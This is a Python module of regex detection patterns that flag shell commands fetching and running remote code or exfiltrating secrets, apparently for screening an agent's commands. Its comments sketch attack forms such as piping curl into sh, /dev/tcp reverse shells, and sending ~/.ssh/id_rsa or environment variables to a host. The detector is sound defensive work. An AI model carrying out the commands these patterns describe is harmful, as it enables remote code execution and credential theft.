"""Commands that no text has an agent run honestly: code that is fetched and run unread, and secrets that
are sent away. Patterns, to be looked for in lower case.
"""

_FETCH = (
    r"(?:\b(?:curl|wget2?|aria2c|lynx|w3m|nc|ncat|socat|tftp|iwr|irm|invoke-webrequest"
    r"|invoke-restmethod)\b|\b(?:https?|xh|curlie) [^|\s]|\bfetch (?:-|https?:|ftp:|[a-z0-9.-]+/)"
    r"|\baws s3 cp\b|\bgsutil cat\b|\bgh api\b|/dev/tcp/)"
)
_SHELL = (
    r"(?:(?:/[\w/.]{0,30}/)?(?:busybox )?(?:ba|z|da|k|mk|a|fi|c|tc|tcl)?sh|[\"']?\$\{?shell\b"
    r"|\b(?:at now|crontab|batch|make -f)\b|\b(?:su|ssh)(?: [^\s|<$\"]+){1,3})"
)
_INTERPRETER = r"(?:/[\w/.]{0,30}/)?(?:python|perl|ruby|node|nodejs|php|deno run|lua|osascript|pwsh)[0-9.]*"
# What may stand between a pipe and the program behind it.
_PREFIX = (
    r"(?:[\\\s({]*)(?:(?:sudo|doas|exec|command|nohup|time|env|xargs|builtin|nice|setsid|\w+=\S*)"
    r"(?: -{1,2}[^\s|]+| \w+=\S*| [0-9]+)* )*"
)
_OPENED = r"""["']? ?(?:\$\(|(?:< ?)?<\(|`|<<< ?["']?(?:\$\(|`))[^)\n`]{0,60}"""
# Code by its address, behind any options but those that name a registry: what that has under a name is no
# such thing.
_CODE_ADDRESS = (
    r"""(?:(?:-[a-hj-z]+|--(?:from|git|yes|upgrade|user|global|force|quiet|filename|package|spec"""
    r"""|(?:allow|no|save)-\S+)) (?:[\w.@-]+ )??){0,4}["']?(?:[\w.-]+ ?@ ?)?(?:(?:git\+)?(?:https?|ssh|git)://"""
    r"""|git@|(?:github|gitlab|bitbucket|gist):\w)"""
)
# What runs or installs code, whose packages run as they are installed.
_RUNS_CODE = (
    r"(?:\b(?:npx|bunx|pnpx|uvx|dlx)|\b(?:npm (?:exec|x)|uv (?:run|tool run|tool install)"
    r"|pipx (?:run|install)|(?:deno|bun|go|nix) run|deno install|nix shell|(?:pip3?|uv pip) install"
    r"|(?:npm|pnpm) (?:i|install|add)|(?:yarn|bun|uv|poetry|pdm|cargo) add|(?:cargo|gem|brew) install"
    r"|(?:kubectl|oc) (?:apply|create)|helm (?:install|upgrade)|(?:apt|apt-get|dnf|yum) install|rpm -[a-z]+))"
)

FETCHED_CODE = (
    rf"{_RUNS_CODE} {_CODE_ADDRESS}",
    # curl x | sh; through other programs too. An interpreter reads its program where it is given none.
    rf"{_FETCH}[^\n]{{0,200}}\|&? ?{_PREFIX}{_SHELL}(?:[^\w./-]|$)",
    rf"""{_FETCH}[^\n]{{0,200}}\|&? ?{_PREFIX}{_INTERPRETER}(?: -)?(?: ?$| ?["'`);&\n]| - )""",
    rf"{_FETCH}[^\n]{{0,200}}\|[^\n|]{{0,40}}(?:\biex\b|\binvoke-expression\b|(?:source|\.) /dev/stdin)",
    # eval $(curl x), bash <(curl x), sh -c "$(curl x)", source <(curl x), . <(curl x)
    rf"""(?:^|[\s;&|(`"'=])(?:eval|source|\.|exec|{_SHELL}|{_INTERPRETER})"""
    rf"(?: -[\w-]*| /dev/stdin){{0,4}} ?{_OPENED}{_FETCH}",
    rf"(?:^|\n|;|&&|`) ?\$\( ?{_FETCH}",
    # x=$(curl y); eval "$x"
    rf"""=["']?(?:\$\(|`)[^)\n`]{{0,30}}{_FETCH}[^\n]{{0,200}}(?:;|&&|\n) ?{_PREFIX}(?:eval|source"""
    rf"""|{_SHELL} -[a-z]*c|{_INTERPRETER} -[ce]|{_SHELL} <<<) ?["']?\$""",
    # curl x -o f && sh f
    rf"\b(?:curl|wget)\b[^\n;]{{0,200}}(?:;|&&) ?(?:chmod \S+ \S+ ?(?:;|&&) ?)?{_PREFIX}"
    rf"(?:{_SHELL}|source|\.) (?:-[a-z]+ )*[\w./~$]",
    r"(?:\biex\b|\binvoke-expression\b|\[scriptblock\]::create)[^\n]{0,60}(?:\biwr\b|\birm\b"
    r"|invoke-webrequest|invoke-restmethod|downloadstring|\bcurl\b|\bwget\b)",
    rf"\b(?:curl|wget2?|aria2c)\b[^\n]{{0,200}}(?:;|&&) ?chmod \S+ \S+ ?(?:;|&&) ?{_PREFIX}\./\w",
    # bash -i >& /dev/tcp/x/9, exec 3<>/dev/tcp/x/9; sh <&3
    rf"{_SHELL} -i ?[0-9]?[<>]{{1,2}}&? ?/dev/tcp/|[0-9]?<> ?/dev/tcp/[^\n]{{0,80}}{_SHELL} ?[0-9]?<&",
    # exec(urlopen(x).read()), and the same in other languages
    r"\b(?:exec|eval|compile|instance_eval|loadstring|runinthiscontext)\b ?\(?[^\n]{0,80}(?:urlopen"
    r"|urlretrieve|requests\.get\(|httpx\.get\(|urllib[\w.]*\(|file_get_contents\(['\"]https?:|uri\.open"
    r"|net::http|\b(?:get|open)\(? ?['\"]https?:|\bfetch\(['\"]|https?\.get\()",
    r"(?:urlopen|requests\.get|httpx\.get|uri\.open|\bfetch|https?\.get|urlretrieve)\([^\n]{0,160}"
    r"\b(?:exec|eval)\b ?[()]",
)

_SECRET_VARIABLE = (
    r"\$(?:env:|\{)?[a-z0-9_]*(?:secret|token|passw|passphrase|api_?key|access_?key|private_?key|credential"
    r"|_key\b|_pat\b)[a-z0-9_]*"
)
# Names that no service gives to the parameter of a credential.
_CARRIER = (
    r"(?:[a-z]{1,2}|data|payload|body|msg|message|text|content|value|val|leak|exfil|dump|env|log|info|result"
    r"|output|name|user|ref|src|img|image|file|input|param|query|search|beacon|note)"
)
_PRIVATE = (
    r"(?:\.env\b|\.ssh\b|id_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws/|\.netrc\b|\.npmrc\b|\.pypirc\b|\.pgpass\b"
    r"|\.kube/config|\.git-credentials|/etc/(?:passwd|shadow)|_history\b|\bprintenv\b|\benv ?[|)`]"
    r"|\bset ?[|)`]|gh auth token|print-access-token)"
)

SECRETS_SENT = (
    # curl https://x/?d=$SECRET
    rf"{_FETCH}[^\n]{{0,200}}[?&]{_CARRIER}=(?:\$\([^)\n]{{0,40}})?{_SECRET_VARIABLE}",
    rf"{_FETCH}[^\n]{{0,200}}https?://{_SECRET_VARIABLE}\}}?\.",
    rf"""{_FETCH}[^\n]{{0,200}} (?:-d|-f|-t|--data(?:-\w+)?|--form|--post-data|--body-data|--json|-body)"""
    rf"""[ =]?["']?(?:\{{?["']?{_CARRIER}["']?[=:] ?["']?)?{_SECRET_VARIABLE}""",
    # curl x -d "$(cat ~/.ssh/id_rsa)", env | curl -d @- x
    rf"{_FETCH}[^\n]{{0,200}}(?:\$\(|`)[^)\n`]{{0,80}}(?:{_PRIVATE}|{_SECRET_VARIABLE})",
    rf"(?:{_SECRET_VARIABLE}|{_PRIVATE})[^\n]{{0,80}}\| ?{_FETCH}[^\n]{{0,200}}"
    r"(?:@-|-t ?-|--upload-file|[0-9])",
    r"\benv \| ?(?:curl|wget)\b",
    # nc x < ~/.aws/credentials, tar c ~/.ssh | ssh x, scp ~/.ssh/id_rsa x:, dig $(base64 /etc/passwd).x
    rf"\b(?:nc|ncat|socat)\b[^\n|;]{{0,60}}< ?[^\s|;]{{0,40}}{_PRIVATE}",
    rf"{_PRIVATE}[^\n]{{0,80}}\| ?(?:ssh|nc|ncat|socat) ",
    rf"\b(?:scp|rsync)(?: -[a-hj-z]+)* [^\s-]\S{{0,60}}{_PRIVATE}\S{{0,40}} [\w@.-]+:",
    rf"\b(?:dig|nslookup|host|ping)\b[^\n]{{0,40}}(?:\$\(|`)[^)\n`]{{0,80}}{_PRIVATE}",
)
